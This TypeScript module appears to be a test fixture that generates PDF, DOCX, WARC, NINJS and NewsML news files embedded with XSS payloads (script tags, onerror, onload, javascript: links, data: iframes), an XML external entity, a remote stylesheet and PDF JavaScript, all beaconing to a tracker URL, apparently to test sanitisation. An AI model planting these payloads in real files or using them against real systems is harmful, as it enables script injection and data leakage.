import { strToU8, zipSync } from "fflate";
import PDFDocument from "pdfkit";
import { escaped, firstWords, run } from "./hostile-page.ts";

/** Files as agencies, offices and archives make them, each with the same prepared title and text. */

export interface HostileFile {
  name: string;
  bytes: (tracker: string, title: string) => Promise<Uint8Array> | Uint8Array;
}

/** By which ways the title and the text run where somebody puts them on a page as they are. */
export const ways = (kind: string): string[] =>
  ["title", "script", "svg", "onerror", "data"].map((way) => `/${kind}-${way}`);

const headline = (tracker: string, kind: string, title: string): string =>
  `${title} <script>${run(tracker, `${kind}-title`)}</script>`;

/** Well-formed, so that it may stand in XML too. */
const content = (tracker: string, kind: string): string => {
  const data = `data:text/html,&lt;script>${run(tracker, `${kind}-data`)}&lt;/script>`;
  return [
    `<p onmouseover="${run(tracker, `${kind}-hover`)}">${firstWords} It was <a href="javascript:${run(tracker, `${kind}-link`)}">asked</a> why.</p>`,
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${run(tracker, `${kind}-svg`)}"><text>Drawn</text></svg>`,
    `<p><img src="/nothing" alt="A drawing" onerror="${run(tracker, `${kind}-onerror`)}"/></p>`,
    `<script>${run(tracker, `${kind}-script`)}</script><iframe src="${data}"></iframe>`,
    `<p>The ministry <a href="${data}">answered</a> that the plan of 2021 had paid for 40 engines, and would be discussed before the summer.</p>`,
  ].join("\n");
};

/** What the files hold, on a page of somebody who does not look after it. */
export const livePage = (tracker: string, kind: string): string =>
  `<!doctype html><html lang="en"><body><h1>${headline(tracker, kind, "Live")}</h1>${content(tracker, kind)}</body></html>`;

const bytesOf = (text: string): Uint8Array => strToU8(text);

function warc(tracker: string, title: string): Uint8Array {
  const page = `<!doctype html><html lang="en"><head><title>${headline(tracker, "warc", title)}</title></head>
    <body onload="${run(tracker, "warc-load")}"><article><h1>${headline(tracker, "warc", title)}</h1>${content(tracker, "warc")}</article></body></html>`;
  const answer = `HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nRefresh: 0;url=${tracker}/warc-refresh\r\n\r\n${page}`;
  return bytesOf(
    [
      "WARC/1.0",
      "WARC-Type: response",
      "WARC-Target-URI: https://news.example/brest",
      "WARC-Date: 2024-05-15T00:00:00Z",
      "WARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-000000000000>",
      "Content-Type: application/http; msgtype=response",
      `Content-Length: ${String(Buffer.byteLength(answer))}`,
      "",
      `${answer}\r\n\r\n`,
    ].join("\r\n"),
  );
}

const ninjs = (tracker: string, title: string): Uint8Array =>
  bytesOf(
    JSON.stringify({
      uri: `javascript:${run(tracker, "ninjs-uri")}`,
      type: "text",
      headline: headline(tracker, "ninjs", title),
      byline: `Par <svg/onload="${run(tracker, "ninjs-byline")}"> Anna Lind`,
      infosource: [{ name: `<img src=x onerror="${run(tracker, "ninjs-source")}"> Agence Ouest` }],
      subject: [{ name: `<script>${run(tracker, "ninjs-subject")}</script>Fisheries` }],
      usageterms: `<iframe src="${tracker}/ninjs-terms"></iframe> All rights reserved.`,
      body_xhtml: content(tracker, "ninjs"),
    }),
  );

/** With an entity that would be fetched by whoever reads it as XML lets them. */
const newsml = (tracker: string, title: string): Uint8Array =>
  bytesOf(`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE newsMessage [<!ENTITY outside SYSTEM "${tracker}/newsml-entity">]>
<?xml-stylesheet href="${tracker}/newsml-stylesheet" type="text/xsl"?>
<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"><itemSet><newsItem guid="urn:1" version="1" xml:lang="en">
<itemMeta><provider literal="${escaped(`<img src=x onerror="${run(tracker, "newsml-source")}">`)} Agence Ouest"/><versionCreated>2024-05-14T09:00:00Z</versionCreated></itemMeta>
<contentMeta><by>Anna Lind</by><headline>${escaped(headline(tracker, "newsml", title))}</headline><language tag="en"/></contentMeta>
<contentSet><inlineXML contenttype="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml"><body>${content(tracker, "newsml")}<p>&outside;</p></body></html></inlineXML></contentSet>
</newsItem></itemSet></newsMessage>`);

/** Its words are markup, its link a script, its picture somewhere else, and a page of HTML lies in it. */
function word(tracker: string, title: string): Uint8Array {
  const xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
  const packages = "http://schemas.openxmlformats.org/package/2006";
  const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const types = "application/vnd.openxmlformats";
  const paragraph = (text: string, style = "") =>
    `<w:p>${style}<w:r><w:t xml:space="preserve">${escaped(text)}</w:t></w:r></w:p>`;
  const outside = (id: string, type: string, target: string) =>
    `<Relationship Id="${id}" Type="${office}/${type}" Target="${escaped(target)}" TargetMode="External"/>`;
  const files = {
    "[Content_Types].xml": `${xml}<Types xmlns="${packages}/content-types"><Default Extension="rels" ContentType="${types}-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="${types}-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    "_rels/.rels": `${xml}<Relationships xmlns="${packages}/relationships"><Relationship Id="r1" Type="${office}/officeDocument" Target="word/document.xml"/></Relationships>`,
    "word/_rels/document.xml.rels": `${xml}<Relationships xmlns="${packages}/relationships">${outside("link", "hyperlink", `javascript:${run(tracker, "word-link")}`)}${outside("picture", "image", `${tracker}/word-picture`)}<Relationship Id="page" Type="${office}/aFChunk" Target="page.html"/></Relationships>`,
    "word/page.html": livePage(tracker, "word-inside"),
    "word/document.xml": `${xml}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${office}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>
      ${paragraph(headline(tracker, "word", title), '<w:pPr><w:pStyle w:val="Heading1"/></w:pPr>')}${paragraph(firstWords)}
      ${content(tracker, "word")
        .split("\n")
        .map((line) => paragraph(line))
        .join("")}
      <w:p><w:hyperlink r:id="link"><w:r><w:t>The ministry answered that the plan of 2021 had paid for 40 engines.</w:t></w:r></w:hyperlink></w:p>
      <w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="p" descr="&quot;&gt;&lt;script&gt;"/><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="picture"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>
      <w:altChunk r:id="page"/></w:body></w:document>`,
  };
  return zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)])));
}

/** With a script that viewers run when it is opened, and a link that is one. */
async function pdf(tracker: string, title: string): Promise<Uint8Array> {
  // So wide that no line is cut: at which letter it would be is chance.
  const doc = new PDFDocument({
    size: [2000, 800],
    info: { Title: headline(tracker, "pdf", title), Author: "<svg onload=1>" },
  });
  const chunks: Buffer[] = [];
  doc.on("data", (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise((resolve) => doc.on("end", resolve));
  doc.addNamedJavaScript("opened", `app.launchURL("${tracker}/pdf-opened")`);
  doc
    .fontSize(20)
    .text(headline(tracker, "pdf", title))
    .moveDown()
    .fontSize(11);
  doc.text(firstWords).moveDown();
  for (const line of content(tracker, "pdf").split("\n")) doc.text(line).moveDown();
  doc.text("The ministry answered that the plan of 2021 had paid for 40 engines.", {
    link: `javascript:${run(tracker, "pdf-link")}`,
  });
  doc.end();
  await ended;
  return new Uint8Array(Buffer.concat(chunks));
}

export const hostileFiles: Readonly<Record<string, HostileFile>> = {
  pdf: { name: "report.pdf", bytes: pdf },
  word: { name: "report.docx", bytes: word },
  warc: { name: "archive.warc", bytes: warc },
  ninjs: { name: "dispatch.json", bytes: ninjs },
  newsml: { name: "dispatch.xml", bytes: newsml },
};
